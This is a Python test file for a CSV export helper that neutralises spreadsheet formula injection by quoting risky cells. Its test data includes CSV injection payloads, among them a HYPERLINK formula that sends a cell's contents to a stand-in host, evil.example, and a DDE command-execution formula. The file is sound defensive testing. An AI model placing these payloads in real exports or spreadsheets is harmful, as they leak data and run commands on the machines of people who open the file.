"""CSV exports: text a spreadsheet would run as a formula is written inert (OWASP's CSV injection rule);
numbers stay numbers."""
from __future__ import annotations

import csv
import io

import pytest

from shared.exports import csv_cell, write_csv

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1, "click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_cell_a_spreadsheet_would_evaluate_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["SC01-ST01", "路灯", "a=b", "", " =1", 0, -0.5, 3, None, True])
def test_plain_text_numbers_and_empty_cells_are_written_as_they_are(value):
    assert csv_cell(value) == value


def test_an_export_neutralises_every_cell_and_its_header_and_reads_back_as_text():
    text = write_csv(["reporter", "opened", "closure_rate"],
                     [{"reporter": "=HYPERLINK(\"http://x\")", "opened": 3, "closure_rate": -0.25, "extra": "="},
                      {"reporter": "@wang", "opened": 1}])
    assert text.endswith("\r\n") and text.count("\r\n") == 3
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["reporter", "opened", "closure_rate"], ["'=HYPERLINK(\"http://x\")", "3", "-0.25"],
                    ["'@wang", "1", ""]]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
